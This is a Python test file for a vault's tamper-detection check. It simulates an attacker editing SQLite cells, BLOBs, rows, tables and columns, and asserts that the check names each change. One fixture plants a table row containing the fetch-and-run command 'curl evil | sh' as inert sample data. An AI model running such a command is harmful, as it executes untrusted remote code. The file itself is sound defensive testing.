"""An open with no new statement compares the tables' digest with the one this
workstation kept when they last matched the signed log, not every row: the attacker
who edits the vault file directly (cells, BLOBs, types, rows, tables, columns) must
still be named, with the row and column, exactly as the row-by-row comparison names
them; and the projection is read from the workstation's store only when it is needed.

The attacker can write the vault file but not this computer's config directory."""

from __future__ import annotations

import sqlite3
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from helpers.attacker import raw
from helpers.signed import pin_as_real, signer
from tessera.custody.log_check import check_vault
from tessera.vault import Vault, statements
from tessera.vault.workstation_pins import WorkstationPins


@pytest.fixture
def pins(tmp_path: Path) -> WorkstationPins:
    return WorkstationPins(tmp_path / "workstation")


@pytest.fixture
def projection_reads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The vault ids whose kept projection was read from the workstation's store."""
    reads: list[str] = []
    real = WorkstationPins._projection

    def counting(self: WorkstationPins, vault_id: str, head: Any) -> statements.Tables:
        reads.append(vault_id)
        return real(self, vault_id, head)

    monkeypatch.setattr(WorkstationPins, "_projection", counting)
    return reads


def _verified(c: Any, pins: WorkstationPins) -> statements.Replay:
    result = check_vault(c.vault, pins)
    assert result.ok, result.problem
    pin_as_real(pins, c.vault)
    return result


def _edited(c: Any, *sql: str) -> Vault:
    c.vault.close()
    conn = raw(c.path)
    for statement in sql:
        conn.execute(statement)
    conn.close()
    c.vault = Vault.open(c.path)
    return c.vault


def test_an_unchanged_vault_opens_without_reading_the_projection(
        signed: Any, pins: WorkstationPins, projection_reads: list[str]) -> None:
    c = signed
    first = _verified(c, pins)
    assert first.tables_digest
    kept = pins.verified(c.vault)
    assert kept is not None and kept.tables_digest == first.tables_digest
    projection_reads.clear()
    again = check_vault(_edited(c), pins)
    assert again.ok, again.problem
    assert projection_reads == []  # neither read nor compared row by row
    assert again.tables_digest == first.tables_digest
    # The replay it returns still knows every row (read when first asked for).
    full = check_vault(c.vault, pins, full=True)
    assert again.tables == full.tables
    assert projection_reads == [c.vault.vault_id]


def test_new_statements_read_the_projection_and_keep_a_new_digest(
        signed: Any, pins: WorkstationPins, projection_reads: list[str]) -> None:
    c = signed
    first = _verified(c, pins)
    with c.vault.signed_by(signer(c, "Alice")):
        c.vault.add_custodian("Dave", contact="", role="", actor="op")
    projection_reads.clear()
    again = check_vault(_edited(c), pins)
    assert again.ok, again.problem
    assert projection_reads == [c.vault.vault_id]
    assert again.tables_digest not in ("", first.tables_digest)
    kept = pins.verified(c.vault)
    assert kept is not None and kept.tables_digest == again.tables_digest


def _first_envelope(c: Any) -> tuple[str, int, str]:
    conn = sqlite3.connect(c.path)
    row = conn.execute("SELECT record_id, version, share_key FROM envelopes"
                       " ORDER BY record_id, version, share_key LIMIT 1").fetchone()
    conn.close()
    return str(row[0]), int(row[1]), str(row[2])


def _where(key: tuple[str, int, str]) -> str:
    return f"record_id = '{key[0]}' AND version = {key[1]} AND share_key = '{key[2]}'"


EDITS: dict[str, tuple[Callable[[Any], list[str]], str, str | None]] = {
    # name: (SQL the attacker runs, table named, column named (None: a whole row))
    "a BLOB's bytes, same length": (
        lambda c: [f"UPDATE envelopes SET age = CAST(substr(age, 1, length(age) - 1)"
                   f" || X'00' AS BLOB) WHERE {_where(_first_envelope(c))}"],
        "envelopes", "age"),
    "two envelopes' BLOBs swapped": (
        lambda c: ["UPDATE envelopes SET age = (SELECT e.age FROM envelopes e WHERE"
                   " e.rowid = (SELECT max(rowid) FROM envelopes)) WHERE rowid ="
                   " (SELECT min(rowid) FROM envelopes)"],
        "envelopes", "age"),
    "a BLOB stored as text": (
        lambda c: [f"UPDATE envelopes SET age = CAST(age AS TEXT) WHERE "
                   f"{_where(_first_envelope(c))}"],
        "envelopes", "age"),
    "a BLOB stored as a number": (
        lambda c: [f"UPDATE envelopes SET age = 7 WHERE {_where(_first_envelope(c))}"],
        "envelopes", "age"),
    "a BLOB emptied": (
        lambda c: [f"UPDATE envelopes SET age = X'' WHERE {_where(_first_envelope(c))}"],
        "envelopes", "age"),
    "a text cell that is not UTF-8": (
        lambda c: ["UPDATE tokens SET recipient = CAST(X'61ff6200' AS TEXT)"
                   " WHERE label LIKE 'Bob%'"],
        "tokens", "recipient"),
    "a text cell": (
        lambda c: ["UPDATE tokens SET recipient = 'age1attacker' WHERE label LIKE 'Bob%'"],
        "tokens", "recipient"),
    "a row deleted": (
        lambda c: [f"DELETE FROM envelopes WHERE {_where(_first_envelope(c))}"],
        "envelopes", None),
    "a row inserted": (
        lambda c: ["INSERT INTO meta (key, value) VALUES ('planted', 'hook')"],
        "meta", None),
    "a table planted": (
        lambda c: ["CREATE TABLE hooks2 (id TEXT PRIMARY KEY, command TEXT)",
                   "INSERT INTO hooks2 VALUES ('x', 'curl evil | sh')"],
        "hooks2", None),
}


@pytest.mark.parametrize("edit", sorted(EDITS))
def test_a_direct_edit_after_the_last_verify_is_named(signed: Any, pins: WorkstationPins,
                                                      edit: str) -> None:
    c = signed
    _verified(c, pins)
    sql, table, column = EDITS[edit]
    result = check_vault(_edited(c, *sql(c)), pins)
    assert not result.ok
    assert result.difference is not None, result.problem
    assert (result.difference.table, result.difference.column) == (table, column)
    # Nothing about the failed check is kept: the next open names it again.
    assert not check_vault(c.vault, pins).ok


def test_a_column_added_is_named(signed: Any, pins: WorkstationPins) -> None:
    c = signed
    _verified(c, pins)
    result = check_vault(_edited(c, "ALTER TABLE custodians ADD COLUMN note TEXT"
                                    " DEFAULT 'x'"), pins)
    assert not result.ok and result.difference is not None
    assert (result.difference.table, result.difference.column) == ("custodians", "note")


def test_an_edit_undone_opens_again(signed: Any, pins: WorkstationPins) -> None:
    """The digest is of the content, not of the file: an edit undone matches again."""
    c = signed
    _verified(c, pins)
    key = _first_envelope(c)
    conn = sqlite3.connect(c.path)
    original = conn.execute(f"SELECT age FROM envelopes WHERE {_where(key)}").fetchone()[0]
    conn.close()
    assert not check_vault(_edited(c, f"UPDATE envelopes SET age = X'00' WHERE "
                                      f"{_where(key)}"), pins).ok
    c.vault.close()
    conn = raw(c.path)
    conn.execute(f"UPDATE envelopes SET age = ? WHERE {_where(key)}", (original,))
    conn.close()
    c.vault = Vault.open(c.path)
    assert check_vault(c.vault, pins).ok


def test_a_store_kept_before_digests_compares_every_row(
        signed: Any, pins: WorkstationPins, projection_reads: list[str]) -> None:
    c = signed
    _verified(c, pins)
    path = pins.path_for(c.vault.vault_id)
    conn = sqlite3.connect(path)
    conn.execute("ALTER TABLE verified DROP COLUMN tables_digest")
    conn.execute("PRAGMA user_version = 2")
    conn.commit()
    conn.close()
    kept = pins.verified(c.vault)
    assert kept is not None and kept.tables_digest == ""
    projection_reads.clear()
    edited = _edited(c, "UPDATE tokens SET recipient = 'age1attacker' WHERE label LIKE 'Bob%'")
    result = check_vault(edited, pins)
    assert projection_reads == [c.vault.vault_id]
    assert not result.ok and result.difference is not None
    assert result.difference.column == "recipient"


def test_a_projection_replaced_meanwhile_is_not_used(signed: Any, pins: WorkstationPins,
                                                     tmp_path: Path) -> None:
    """Another process saving a newer verified state between this one's reading the
    kept head and its projection: the projection of a different head is not used."""
    c = signed
    _verified(c, pins)
    kept = pins.verified(c.vault)
    assert kept is not None
    with c.vault.signed_by(signer(c, "Alice")):
        c.vault.add_custodian("Dave", contact="", role="", actor="op")
    assert check_vault(c.vault, pins).ok  # the store moves on to the newer head
    with pytest.raises(statements.ProjectionMoved):
        _ = kept.tables


def _digests(c: Any) -> tuple[str, str]:
    """(the digest as opening takes it, the digest with every text cell decoded in
    Python, as every digest was taken before SQLite's strict decoder was tried first)."""
    with c.vault.reading() as conn:
        return statements.tables_digest(conn), statements._tables_digest(
            conn, statements._lenient)


def test_the_digest_a_workstation_kept_still_matches(signed: Any) -> None:
    """Decoding text in C first changes no digest: a store written before still opens
    an unchanged vault without comparing every row."""
    fast, lenient = _digests(signed)
    assert fast == lenient


def test_a_text_cell_that_is_not_utf8_is_hashed_not_fatal(signed: Any) -> None:
    c = signed
    before, _ = _digests(c)
    _edited(c, "UPDATE tokens SET recipient = CAST(X'61ff6200' AS TEXT) WHERE label LIKE 'Bob%'")
    planted, lenient = _digests(c)
    assert planted == lenient and planted != before
    # The connection reads text strictly again afterwards (the lenient reading is undone).
    with c.vault.reading() as conn:
        assert conn.text_factory is str
